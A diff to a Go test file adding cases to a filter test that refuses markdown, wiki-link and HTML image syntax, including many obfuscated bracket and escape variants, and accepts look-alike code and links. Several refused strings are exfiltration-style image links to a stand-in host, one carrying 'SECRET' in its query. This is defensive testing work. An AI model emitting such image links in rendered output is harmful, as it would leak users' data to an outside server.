@@ -86,6 +86,11 @@ func TestImagesAreRefused(t *testing.T) {
 	for text, refused := range map[string]bool{
 		"see ![x](https://evil.test/?q=SECRET)": true, "![x][a]\n\n[a]: https://evil.test/": true, "![]( <http://evil.test> )": true, "![a\nb](//evil.test/x)": true,
 		"<img src=https://evil.test/>": true, "<IMG\nsrc='//evil.test/'>": true, "< picture><source srcset=x>": true, "<svg><image href=x>": true, "<link rel=stylesheet href=x>": true,
+		"![[a]](//evil.test/x)": true, "![a\\]](//evil.test/x)": true, "![[b](//c.test)\n](//evil.test/x)": true, "![`]`](//evil.test/x)": true, "![[a] `]` ](//evil.test/x)": true,
+		"![<a title=']'>](//evil.test/x)": true, "![$]$](//evil.test/x)": true, "[a ![b](//evil.test/x)": true, "![a] b\n\n[A]: //evil.test/x": true, "![a][]\n\n> [a]: //evil.test/x": true,
+		"![a\\]]\n- [a\\]]:\n  //evil.test/x": true, "[[https://evil.test/x.png]]": true, "[[a|https:\\//evil.test/x.png]]": true, "[[a|link=https&#58;//evil.test/x.png]]": true,
+		"vec![1, 2] and [a](https://example.com/)": false, "`vec![[1], [2]]`, see [a](https://example.com/)": false, "![ [a](https://example.com/)": false, "![a ]\n": false,
+		"[[ -f a && -d b ]]": false, "[[a page]]": false, "`vec![`\n\n[a](https://example.com/)": false, "[1]: https://example.com/": false,
 		"a link: https://example.com/": false, "[a](https://example.com/)": false, "wow![1]": false, "a < b, imgs > c": false, "<imgur>": false,
 	} {
 		f := newFixture(t)
